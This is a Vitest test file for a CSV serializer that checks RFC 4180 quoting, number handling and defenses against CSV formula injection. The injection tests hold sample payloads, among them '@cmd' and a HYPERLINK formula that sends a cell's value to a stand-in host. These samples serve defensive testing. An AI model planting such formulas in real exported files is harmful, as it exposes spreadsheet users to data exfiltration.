import { parse } from 'csv-parse/sync'
import { expect, test } from 'vitest'
import { csvRow } from '../../src/core/csv.ts'
import fc from '../fast-check.ts'

test('a row ends with LF and quotes what RFC 4180 section 2 says', () => {
  expect(csvRow(['a', 1.5, 'b,c', 'say "hi"', 'two\nlines'])).toBe('a,1.5,"b,c","say ""hi""","two\nlines"\n')
})

test('missing cells are empty, zero is not missing', () => {
  expect(csvRow([null, NaN, 0, ''])).toBe(',,0,\n')
})

test('a row of one missing cell is no empty line', () => {
  expect(csvRow([null])).toBe('""\n')
})

// https://owasp.org/www-community/attacks/CSV_Injection
test.each([
  ['=1+1', `'=1+1\n`],
  ['+SUM(A1)', `'+SUM(A1)\n`],
  ['-2+3', `'-2+3\n`],
  ['@cmd', `'@cmd\n`],
  ['\t=1', `"'\t=1"\n`],
  ['\r=1', `"'\r=1"\n`],
  ['＝1+1', `'＝1+1\n`],
  ['=HYPERLINK("http://x?"&A1)', `"'=HYPERLINK(""http://x?""&A1)"\n`]
])('%j is no formula for a spreadsheet', (cell, row) => {
  expect(csvRow([cell])).toBe(row)
})

test.each(['-1', '+1', '-0.5', '-.5', '+1.5E-3', '-12.'])('the number %s in text stays as it is', (cell) => {
  expect(csvRow([cell])).toBe(`${cell}\n`)
})

test.each(['-1,5', '+,5', '-0,'])('so does %s, a number with a decimal comma, in quotes', (cell) => {
  expect(csvRow([cell])).toBe(`"${cell}"\n`)
})

test('a DICOM value of several numbers is text', () => {
  expect(csvRow(['-1\\0\\0'])).toBe(`'-1\\0\\0\n`)
})

test('csv-parse reads back any text, and no cell of text begins like a formula', () => {
  const cell = fc.string({ unit: fc.constantFrom(...'=+-@\t\r\n",;\'a0 é日😀\\') })
  fc.assert(
    fc.property(fc.array(fc.array(cell, { minLength: 3, maxLength: 3 }), { minLength: 1 }), (rows) => {
      const read: string[][] = parse(rows.map(csvRow).join(''), { record_delimiter: '\n' })
      expect(read.length).toBe(rows.length)
      for (const [r, row] of rows.entries()) {
        for (const [c, text] of row.entries()) {
          expect([text, `'${text}`]).toContain(read[r][c])
          const isNumber = !Number.isNaN(Number(read[r][c].replace(',', '.')))
          expect(/^[=+\-@\t\r\n]/.test(read[r][c]) && !isNumber).toBe(false)
        }
      }
    })
  )
})
